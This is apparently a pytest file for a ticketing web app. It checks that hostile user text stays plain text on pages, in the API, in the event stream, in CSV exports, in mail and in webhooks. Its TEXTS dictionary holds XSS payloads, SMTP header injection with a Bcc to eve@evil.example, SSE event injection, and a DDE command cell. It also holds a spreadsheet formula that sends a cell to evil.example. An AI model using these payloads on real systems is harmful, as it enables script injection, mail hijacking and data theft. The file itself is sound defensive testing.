"""What people write is text wherever it goes: on pages, in the API and the stream, in mail, in the
table of an export, and in what webhooks are sent. tests/browser/test_hostile_text.py looks at the
same in windows."""

import csv
import io
import json
from collections.abc import Iterator
from email import message_from_bytes, policy
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.harness.post import SENDER
from tests.harness.servers import Daphne
from tests.harness.site import Browser, People
from tickets.exchange.cells import DANGEROUS, disarmed
from tickets.mail.message import message_of
from tickets.mail.models import Mail
from tickets.models import Comment, Ticket
from tickets.webhooks.models import EVENTS, Delivery, Webhook

TEXTS = {
    "markup": "<img src=x onerror=a()></textarea></script><script>a()</script>",
    "an attribute": "\" onmouseover=a() x=' autofocus onfocus=a() y=",
    "entities": "&lt;b&gt; &amp;amp; &#x27; {{ user.password }} {% csrf_token %}",
    "one long word": "W" * 10_000,
    "directions": "\u202ecod.exe\u202c \u2067\u05e9\u05dc\u05d5\u05dd\u2069 \u200f\u200b|\ufeff|",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈e\u0301\U0001f1e9\U0001f1ea" * 5,
    "an event": '\n\nevent: x\ndata: {"ticket": {"id": 1}}\nid: 999999999\n\n',
    "an event, other ends of lines": "a\r\revent: x\r\n\r\ndata: y\u2028\u2029\x85event: x",
    "headers": "Hello\r\nBcc: eve@evil.example\r\nSubject: Other\r\n\r\nAnother body\r\n.\r\n",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "cells": '","=1+1"\n"\n=cmd|\' /C calc\'!A0;\t@SUM(1)',
    "json": '"}]}, "injected": true, \\u0000 \\ud800 \\',
}
HEADERS = {
    "from", "to", "reply-to", "subject", "message-id", "date", "mime-version", "content-type",
    "in-reply-to", "references",
}  # fmt: skip
TOLD = {"ticket.created", "ticket.updated", "comment.created", "comment.mailed", "connected",
        "heartbeat", "reset", "notice.created", "presence"}  # fmt: skip
REQUESTER = "zoe@customers.example"


@pytest.fixture(scope="module")
def server(site_database: str) -> Iterator[Daphne]:
    with Daphne(site_database, EMAIL_URL="smtp://127.0.0.1:9", MAIL_FROM=SENDER) as daphne:
        yield daphne


@pytest.fixture
def hook(site_database: str, settings: Any) -> Iterator[Webhook]:
    """A webhook that is told of everything, and mail that nobody sends."""
    settings.EMAIL_URL, settings.MAIL_FROM = "smtp://127.0.0.1:9", SENDER
    hook = Webhook.objects.create(
        name="All", url="https://example.com/", secret="s", events=" ".join(EVENTS)
    )
    yield hook
    hook.delete()


class Markup(HTMLParser):
    """What a browser would make of it: elements with their attributes, and the text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._in_script = False
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        self.text += "" if self._in_script else data

    def assert_is_ours(self) -> None:
        for tag, attributes in self.elements:
            assert tag != "img", attributes
            assert not any(name.startswith("on") for name in attributes), (tag, attributes)
            if tag == "script" and attributes.get("type") != "application/json":
                assert str(attributes["src"]).startswith("/static/")


def squeezed(text: str) -> str:
    """Without white space, which pages and mails may arrange."""
    return "".join(text.split())


def lines_of(text: str) -> str:
    """What the API keeps of a text: not the white space around it, and one end of lines."""
    return text.replace("\r\n", "\n").strip()


def opened(site: People, text: str) -> tuple[Ticket, Comment]:
    """A ticket whose every text it is, and a reply, by somebody of that name."""
    site.carol.last_name = text[:150]
    site.carol.save()
    ticket = site.ticket(
        subject=text[:200], description=text, requester_name=text[:100], requester_email=REQUESTER,
        assignee=site.carol,
    )  # fmt: skip
    return ticket, Comment.objects.create(ticket=ticket, author=site.carol, body=text)


@pytest.mark.parametrize("name", TEXTS)
def test_text_is_text_on_pages_in_the_api_and_in_tables(
    name: str, server: Daphne, site: People, hook: Webhook
) -> None:
    text = TEXTS[name]
    ticket, _ = opened(site, text)
    with Browser(server.url, site.alice) as browser:
        page = Markup(browser.get(f"/tickets/{ticket.pk}/").text)
        board = Markup(browser.get("/?status=all").text)
        told = browser.get(f"/api/tickets/{ticket.pk}/").json()
        answer = browser.post(f"/api/tickets/{ticket.pk}/comments/", json={"body": text})
        table = browser.get("/export.csv?status=all").content.decode("utf-8-sig")
    for shown in (page, board):
        shown.assert_is_ours()
        assert squeezed(text[:200]) in squeezed(shown.text)
    assert squeezed(page.text).count(squeezed(text[:500])) >= 2  # description and reply

    assert told["subject"] == text[:200]
    assert told["description"] == text
    assert told["requester_name"] == text[:100]
    said = answer.json()
    assert answer.status_code == 201
    assert lines_of(said["body"]) == lines_of(text)
    assert "injected" not in json.dumps(list(told)) + json.dumps(list(said))

    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(table, newline=""))}
    row = rows[f"{ticket.pk}"]
    assert row["subject"] == disarmed(text[:200])
    assert row["requester_name"] == disarmed(text[:100])
    for row in rows.values():
        assert None not in row  # no cell too many
        for cell in row.values():
            assert not cell.removeprefix("'").startswith(DANGEROUS) or cell.startswith("'")


@pytest.mark.parametrize("name", TEXTS)
def test_text_is_text_in_the_stream(
    name: str, server: Daphne, site: People, hook: Webhook, follow: Any
) -> None:
    text = TEXTS[name]
    stream = follow(server, site.alice)
    opened(site, text)
    created = stream.next("ticket.created")
    assert created.data["ticket"]["subject"] == text[:200]
    assert created.data["ticket"]["requester_name"] == text[:100]
    said = stream.next("comment.created").data["comment"]
    if len(text) <= 4000:
        assert said["body"] == text
    else:
        assert said["shortened"] is True
        assert text.startswith(said["body"].removesuffix("…"))
    last = site.ticket("The last one")
    while created.data["ticket"]["id"] != last.pk:
        created = stream.next("ticket.created")
    assert {frame.event for frame in stream.frames} <= TOLD
    ids = [frame.id for frame in stream.frames if frame.id is not None]
    assert ids == sorted(ids)
    assert max(ids) < 999_999_999


@pytest.mark.parametrize("name", TEXTS)
def test_text_is_text_in_mail_and_in_what_webhooks_are_sent(
    name: str, site: People, hook: Webhook
) -> None:
    text = TEXTS[name]
    ticket, comment = opened(site, text)
    mail = Mail.objects.get(comment=comment)
    raw, _ = message_of(mail)
    message = message_from_bytes(raw, policy=policy.default)
    assert {header.lower() for header in message} <= HEADERS
    assert message["To"].addresses[0].addr_spec == REQUESTER
    assert len(message["To"].addresses) == 1
    assert message["Subject"].startswith(f"[#{ticket.pk}]")
    plain, html = message.get_body(("plain",)), message.get_body(("html",))
    assert plain is not None
    assert html is not None
    assert visible(text)[:500] in visible(plain.get_content())
    for tag, attributes in Markup(html.get_content()).elements:
        assert tag not in {"script", "img", "textarea"}, attributes
        assert not any(key.startswith("on") for key in attributes)

    sent = Delivery.objects.filter(webhook=hook, ticket=ticket.pk).order_by("pk")
    bodies = {delivery.event: json.loads(delivery.body) for delivery in sent}
    assert set(bodies) == {"ticket.created", "comment.created"}
    assert text[:200] in list(strings(bodies["ticket.created"]))
    assert text[:4000] in "".join(strings(bodies["comment.created"])) or len(text) > 4000
    assert not any("injected" in body for body in bodies.values())
    mail.delete()


def visible(text: str) -> str:
    """What is left of a text in mail whatever is done to its lines: letters, digits and signs."""
    return "".join(letter for letter in text if letter.isprintable() and not letter.isspace())


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for part in value.values() if isinstance(value, dict) else value:
            yield from strings(part)
